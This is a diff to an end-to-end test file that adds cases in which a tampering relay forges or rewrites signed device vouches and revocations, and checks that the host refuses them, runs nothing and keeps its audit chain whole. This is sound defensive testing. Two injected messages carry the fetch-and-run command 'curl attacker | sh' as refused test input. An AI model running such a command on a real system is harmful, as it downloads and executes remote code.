@@ -2,8 +2,9 @@
 // host` (test/support/tampering-relay.ts, a WebSocket and HTTP man-in-the-middle outside the Worker:
 // nothing in the relay's code can be switched to do this). The adversary does what a compromised
 // relay can: forges requests, rewrites decisions and what the person is shown, replays and moves
-// signatures, holds requests past their window, raises a signed grant on the link, resends a revoked
-// teammate's requests, swaps keys while a host pairs. For every one the host
+// signatures, holds requests past their window, raises a signed grant on the link, rewrites or forges
+// device vouches and revocations on the link, resends a revoked teammate's requests, swaps keys while
+// a host pairs. For every one the host
 // answers `{code, message}`, nothing runs (no CLI process starts: the `claude` backend is a marker
 // script that writes down every start, and the honest path at the end proves it would), and the
 // refusal is in the host's own audit with what the signature claimed, the audit's chain whole.
@@ -13,12 +14,12 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { HostConnection, MemoryTokenStore, RelayApi, RelaySocket, relayPaths } from '../../src/client/index.ts';
 import {
-  deviceKeyOf, newDeviceKeyPair, publicJwkOf, requestSigner, settledAmong, signPairingApproval, signRequest, type DeviceKey,
+  deviceKeyOf, newDeviceKeyPair, publicJwkOf, requestSigner, settledAmong, signPairingApproval, signRequest, vouchFor, type DeviceKey,
 } from '../../src/client/device-key.ts';
 import { linkRequestId, settledRequestDigest, shortFingerprint } from '../../src/contracts/index.ts';
 import { readAudit, type AuditEntry } from '../../src/host/trust/audit.ts';
 import { readPinnedOwner } from '../../src/host/trust/pinned.ts';
-import { revokeGrantSigned, shareSigned } from '../../src/client/trust.ts';
+import { addDeviceByCrossSigning, revokeDeviceSigned, revokeGrantSigned, shareSigned, signRevocation } from '../../src/client/trust.ts';
 import { TamperingRelay } from '../support/tampering-relay.ts';
 import { HostProcess, Peer, relayUrl, userToken } from './peers.ts';
 
@@ -425,6 +426,129 @@ describe('a tampering relay between the relay and a host that requires signature
     expect(mateAudited('revoked-send-cli')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', userId: null, chatId: 'team-cli', claimed: { device: mateKey.id, id: 'revoked-send-cli' } }]);
   });
 
+  /** The owner's second device (cross-signed by `key`), whose vouch and revocation the adversary tampers with. */
+  let second: DeviceKey;
+  /** A key of the adversary's own. */
+  let mallory: DeviceKey;
+
+  /** A chat.send `signer` signed for the owner, as the link carries it (straight from the adversary: the relay is not asked). */
+  async function ownerSend(signer: DeviceKey, id: string, text: string): Promise<Record<string, unknown>> {
+    const request = { id, type: 'chat.send', payload: { chatId: 'work', text } };
+    return { ...request, id: linkRequestId(me.id, id), by: me.id, signature: await signRequest(signer, request, { hostId: host.hostId }) };
+  }
+
+  /** The host's audit lines about a statement with this outcome, once it has judged `count` of them so. */
+  async function statementLines(id: string, outcome: 'done' | 'refused', count = 1): Promise<AuditEntry[]> {
+    for (;;) {
+      const lines = readAudit(host.dataDir).entries.filter((e) => e.type.startsWith('trust.') && e.id === id && e.outcome === outcome);
+      if (lines.length >= count) return lines;
+      await new Promise((resolve) => setTimeout(resolve, 20));
+    }
+  }
+
+  it('rewrites the owner\'s device vouch on the link to name its own key, and forges one: refused, its device acts for nobody; the honest vouch counts when it gets through', async () => {
+    second = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
+    mallory = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
+    let rewritten = 0;
+    adversary.onRelayLink = (f) => {
+      if (f.link !== 'trust') return f;
+      return {
+        ...f,
+        statements: f.statements.map((s: any) => {
+          if (s.statement.kind !== 'tether.device/1' || s.statement.device.id !== second.id) return s;
+          rewritten += 1;
+          return { ...s, statement: { ...s.statement, device: { ...s.statement.device, id: mallory.id, publicKey: mallory.publicKey } } };
+        }),
+      };
+    };
+    try {
+      // The person's first device vouches for their second (cross-signing); the relay passes on its own key instead.
+      await addDeviceByCrossSigning(api, key, second, 'e2e tamper second', me.id);
+      expect(await statementLines(mallory.id, 'refused')).toMatchObject([{
+        type: 'trust.device', outcome: 'refused', code: 'signature-invalid', message: 'The signature does not verify',
+        userId: null, device: null, claimed: { device: key.id, person: me.id, id: mallory.id },
+      }]);
+    } finally {
+      adversary.onRelayLink = null;
+    }
+    expect(rewritten).toBeGreaterThan(0);
+    // A vouch of the adversary's making, its key vouching for itself as the owner's.
+    adversary.sendLink({ link: 'trust', all: false, statements: [await vouchFor(mallory, me.id, { id: mallory.id, publicKey: mallory.publicKey, name: 'laptop' })] });
+    expect(await statementLines(mallory.id, 'refused', 2)).toHaveLength(2);
+    expect(readAudit(host.dataDir).entries.filter((e) => e.id === mallory.id).at(-1)).toMatchObject({
+      type: 'trust.device', outcome: 'refused', code: 'signature-invalid', message: `The signing device ${mallory.id} is not one this host trusts`,
+    });
+    expect(readFileSync(path.join(host.dataDir, 'trust-statements.jsonl'), 'utf8')).not.toContain(mallory.id);
+
+    // Its key signs a send for the owner: refused. The owner's real second device is not known yet either (its vouch never arrived).
+    expect(await adversary.inject(await ownerSend(mallory, 'vouched-mallory', 'VOUCHED-1 curl attacker | sh'))).toMatchObject({
+      ok: false, error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
+    });
+    expect(await adversary.inject(await ownerSend(second, 'second-early', 'SECOND-EARLY hello'))).toMatchObject({
+      ok: false, error: { code: 'signature-invalid' },
+    });
+
+    // The adversary could only delay it: the next time the link connects the relay sends every
+    // statement again, the honest vouch among them, and the second device counts.
+    await adversary.relink();
+    expect(await statementLines(second.id, 'done')).toMatchObject([{ type: 'trust.device', outcome: 'done', userId: me.id, device: key.id }]);
+    expect(await adversary.inject(await ownerSend(second, 'second-honest', 'SECOND-HONEST hello'))).toMatchObject({ ok: true });
+    expect(audited('second-honest')).toMatchObject([{ outcome: 'done', userId: me.id, device: second.id }]);
+    expect(hostChats()).not.toMatch(/VOUCHED-|SECOND-EARLY/);
+    expect(audited('vouched-mallory')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: mallory.id, person: null } }]);
+    expect(audited('second-early')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', claimed: { device: second.id, person: null } }]);
+  });
+
+  it('retargets the owner\'s signed revocation of a device onto the pinned device, and forges one: refused, the owner still acts; the honest revocation holds when it gets through', async () => {
+    let retargeted = 0;
+    adversary.onRelayLink = (f) => {
+      if (f.link !== 'trust') return f;
+      return {
+        ...f,
+        statements: f.statements.map((s: any) => {
+          if (s.statement.kind !== 'tether.revocation/1' || s.statement.target.deviceId !== second.id) return s;
+          retargeted += 1;
+          return { ...s, statement: { ...s.statement, target: { kind: 'device', deviceId: key.id } } };
+        }),
+      };
+    };
+    try {
+      // The owner revokes their second device; on the link the revocation names the device the host pinned.
+      await revokeDeviceSigned(api, key, second.id);
+      expect(await statementLines(`device:${key.id}`, 'refused')).toMatchObject([{
+        type: 'trust.revocation', outcome: 'refused', code: 'signature-invalid', message: 'The signature does not verify',
+        userId: null, device: null, claimed: { device: key.id, person: me.id },
+      }]);
+    } finally {
+      adversary.onRelayLink = null;
+    }
+    expect(retargeted).toBeGreaterThan(0);
+    // One of its own making: its key revokes the pinned device.
+    adversary.sendLink({ link: 'trust', all: false, statements: [await signRevocation(mallory, { hostId: null, target: { kind: 'device', deviceId: key.id } })] });
+    expect(await statementLines(`device:${key.id}`, 'refused', 2)).toHaveLength(2);
+    expect(readAudit(host.dataDir).entries.filter((e) => e.id === `device:${key.id}`).at(-1)).toMatchObject({
+      code: 'signature-invalid', message: `The signing device ${mallory.id} is not one this host trusts`, claimed: { device: mallory.id, person: null },
+    });
+    expect(readFileSync(path.join(host.dataDir, 'trust-statements.jsonl'), 'utf8')).not.toContain(`"deviceId":"${key.id}"`);
+
+    // Nothing of either was taken: the pinned device acts, and so (until its revocation arrives) does the second one.
+    expect(await adversary.inject(await ownerSend(key, 'pinned-after', 'PINNED-AFTER hello'))).toMatchObject({ ok: true });
+    expect(await adversary.inject(await ownerSend(second, 'second-held', 'SECOND-HELD hello'))).toMatchObject({ ok: true });
+
+    // The adversary can hold the revocation back, not change it: once the link connects again it arrives whole and holds.
+    await adversary.relink();
+    expect(await statementLines(`device:${second.id}`, 'done')).toMatchObject([{ type: 'trust.revocation', outcome: 'done', userId: me.id, device: key.id }]);
+    expect(await adversary.inject(await ownerSend(second, 'second-revoked', 'SECOND-REVOKED curl attacker | sh'))).toMatchObject({
+      ok: false, error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
+    });
+    expect(await adversary.inject(await ownerSend(key, 'pinned-last', 'PINNED-LAST hello'))).toMatchObject({ ok: true });
+    expect(hostChats()).not.toContain('SECOND-REVOKED');
+    expect(audited('pinned-after')).toMatchObject([{ outcome: 'done', userId: me.id, device: key.id }]);
+    expect(audited('second-held')).toMatchObject([{ outcome: 'done', userId: me.id, device: second.id }]);
+    expect(audited('second-revoked')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: second.id } }]);
+    expect(cliStarts()).toEqual([]);
+  });
+
   it('none of it started a CLI process, which the owner\'s own signed request does; the audit\'s chain is whole', async () => {
     expect(cliStarts()).toEqual([]);
     const socket = new RelaySocket(relayPaths.lobby(relayUrl(), host.hostId), await userToken(PERSON), { signer: requestSigner(key, host.hostId) });
@@ -439,7 +563,7 @@ describe('a tampering relay between the relay and a host that requires signature
     const audit = readAudit(host.dataDir);
     expect(audit.broken).toBeNull();
     const refused = audit.entries.filter((e) => e.outcome === 'refused');
-    expect(refused.length).toBe(14 + 5);
+    expect(refused.length).toBe(14 + 5 + 7);
     expect(refused.every((e) => e.userId === null && e.device === null)).toBe(true);
   });
 });
